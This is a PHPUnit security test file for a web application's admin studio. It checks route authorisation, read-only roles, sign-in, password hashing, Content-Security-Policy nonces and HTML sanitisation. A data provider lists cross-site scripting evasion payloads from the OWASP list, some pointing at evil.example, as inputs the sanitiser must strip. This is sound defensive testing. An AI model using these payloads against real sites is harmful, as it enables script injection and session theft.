<?php

declare(strict_types=1);

namespace Vestibra\Tests\App\Doors;

use Illuminate\Routing\Route;
use Illuminate\Support\Facades\DB;
use Illuminate\Support\Facades\Route as Routes;
use PHPUnit\Framework\Attributes\DataProvider;
use Vestibra\App\Doors\Console\DemoCommand;
use Vestibra\App\Records\Catalogue\SafeHtml;
use Vestibra\App\Records\Models\User;
use Vestibra\Tests\App\TestCase;

final class SecurityTest extends TestCase
{
    public function test_every_address_of_the_studio_asks_who_one_is_and_what_one_may(): void
    {
        $seen = 0;
        foreach (Routes::getRoutes()->getRoutes() as $route) {
            if (! str_starts_with($route->uri(), 'studio') || $route->uri() === 'studio/sign-in') {
                continue;
            }
            $seen++;
            $middleware = $route->gatherMiddleware();
            self::assertContains('auth', $middleware, $route->uri());
            self::assertNotSame([], preg_grep('/^can:/', $middleware), $route->uri());
            $this->json($this->method($route), '/'.$this->filled($route))->assertStatus(401);
        }
        self::assertGreaterThan(15, $seen);
    }

    public function test_somebody_who_only_looks_can_change_nothing(): void
    {
        $viewer = User::query()->create(
            ['name' => 'Vi', 'email' => 'vi@larkfold.example', 'password' => 'ink-on-paper', 'role' => User::VIEWER],
        );
        DB::table('releases')->insert(
            ['author_id' => $this->owner->id, 'at' => now(), 'state' => 'done', 'change_set' => '[]', 'impact' => '{}'],
        );
        $this->actingAs($viewer);
        foreach (Routes::getRoutes()->getRoutes() as $route) {
            if (str_starts_with($route->uri(), 'studio/') && $this->method($route) !== 'GET' && ! in_array(
                $route->uri(),
                [
                    'studio/sign-in', 'studio/sign-out', 'studio/templates/{template}/reach',
                    'studio/templates/{template}/try', 'studio/walk', 'studio/walk/end',
                    // What somebody has selected is theirs, and nothing of the shop.
                    'studio/who/selection/tick', 'studio/who/selection/range', 'studio/who/selection/all',
                    'studio/who/selection/paste',
                ],
                true,
            )) {
                $this->json($this->method($route), '/'.$this->filled($route))->assertStatus(403);
            }
        }
        $this->get('/studio/templates')->assertOk();
        $this->get('/studio/templates/1')->assertOk();
    }

    public function test_an_unknown_role_sees_nothing(): void
    {
        $this->actingAs(User::query()->create([
            'name' => 'X', 'email' => 'x@larkfold.example', 'password' => 'ink-on-paper', 'role' => 'nobody',
        ]));

        $this->get('/studio/templates')->assertForbidden()->assertSee('may look at this but not change it');
    }

    public function test_signing_in_and_out(): void
    {
        $this->get('/studio/templates')->assertRedirect('/studio/sign-in?to=%2Fstudio%2Ftemplates');
        $this->post('/studio/sign-in', ['email' => 'robin@larkfold.example', 'password' => 'wrong'])
            ->assertStatus(422)
            ->assertSee('do not go together');
        $this->post(
            '/studio/sign-in?to=/studio/templates',
            ['email' => 'robin@larkfold.example', 'password' => 'ink-on-paper'],
        )->assertRedirect('/studio/templates');
        $this->assertAuthenticatedAs($this->owner);
        $this->post('/studio/sign-out')->assertRedirect('/studio/sign-in');
        $this->assertGuest();
    }

    public function test_passwords_are_hashed(): void
    {
        self::assertStringStartsWith('$2y$', $this->owner->password);
    }

    public function test_nobody_has_the_demos_password_outside_the_demo(): void
    {
        $this->post('/studio/sign-in', ['email' => DemoCommand::EMAIL, 'password' => DemoCommand::PASSWORD])
            ->assertStatus(422);
    }

    public function test_only_what_the_application_ships_may_run(): void
    {
        foreach (['/', '/p/teal-tide-bottled-ink', '/studio/sign-in', '/p/nothing'] as $address) {
            $policy = (string) $this->get($address)->headers->get('Content-Security-Policy');
            self::assertMatchesRegularExpression("/script-src 'self' 'nonce-\w{20,}'(;|$)/", $policy);
            self::assertStringContainsString("object-src 'none'", $policy);
            self::assertStringContainsString("frame-ancestors 'self'", $policy);
            self::assertStringNotContainsString('unsafe', $policy);
        }
    }

    public function test_the_nonce_of_the_page_is_that_of_the_policy(): void
    {
        $answer = $this->get('/p/teal-tide-bottled-ink');
        preg_match("/'nonce-(\w+)'/", (string) $answer->headers->get('Content-Security-Policy'), $found);

        self::assertStringContainsString('<script nonce="'.$found[1].'">', (string) $answer->getContent());
        self::assertDoesNotMatchRegularExpression(
            '/<(script|style)(?![^>]*(nonce|src|application\/json))[^>]*>/',
            (string) $answer->getContent(),
        );
        self::assertDoesNotMatchRegularExpression('/ (style|on\w+)=/', (string) $answer->getContent());
    }

    /**
     * From the OWASP cross-site scripting filter evasion list.
     *
     * @return iterable<string, array{string}>
     */
    public static function evasions(): iterable
    {
        yield 'plain' => ['<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>'];
        yield 'javascript link' => ['<a href="javascript:alert(1)">x</a>'];
        yield 'mixed case' => ['<a href="JaVaScRiPt:alert(1)">x</a>'];
        yield 'entities' => ['<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>'];
        yield 'tab in the scheme' => ["<a href=\"jav\tascript:alert(1)\">x</a>"];
        yield 'leading control character' => ["<a href=\" \x01javascript:alert(1)\">x</a>"];
        yield 'on error' => ['<img src=x onerror="alert(1)">'];
        yield 'unclosed' => ['<img src="x` `<script>alert(1)</script>"` `>'];
        yield 'half open' => ['<iframe src=https://evil.example/ <'];
        yield 'svg' => ['<svg onload=alert(1)><script>alert(1)</script></svg>'];
        yield 'style' => ['<div style="background:url(javascript:alert(1))">x</div><style>body{display:none}</style>'];
        yield 'data link' => ['<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'];
        yield 'form' => ['<form action="//evil.example"><button>x</button></form>'];
        yield 'meta' => ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'];
        yield 'vbscript' => ['<a href="vbscript:msgbox(1)">x</a>'];
    }

    #[DataProvider('evasions')]
    public function test_rich_text_is_made_safe(string $html): void
    {
        $safe = SafeHtml::clean("<p>Good <strong>words</strong></p>$html");

        self::assertStringContainsString('<p>Good <strong>words</strong></p>', $safe);
        self::assertDoesNotMatchRegularExpression(
            '/<(script|iframe|img|svg|style|form|meta|div|button)|\son\w+=|script:|data:|style=/i',
            $safe,
        );
    }

    private function method(Route $route): string
    {
        return $route->methods()[0];
    }

    private function filled(Route $route): string
    {
        return (string) preg_replace(
            ['/\{field\}/', '/\{thing\}/', '/\{ordered\}/', '/\{pageKind\}/', '/\{\w+\}/'],
            ['brand', 'brand', 'category', 'product', '1'],
            $route->uri(),
        );
    }
}
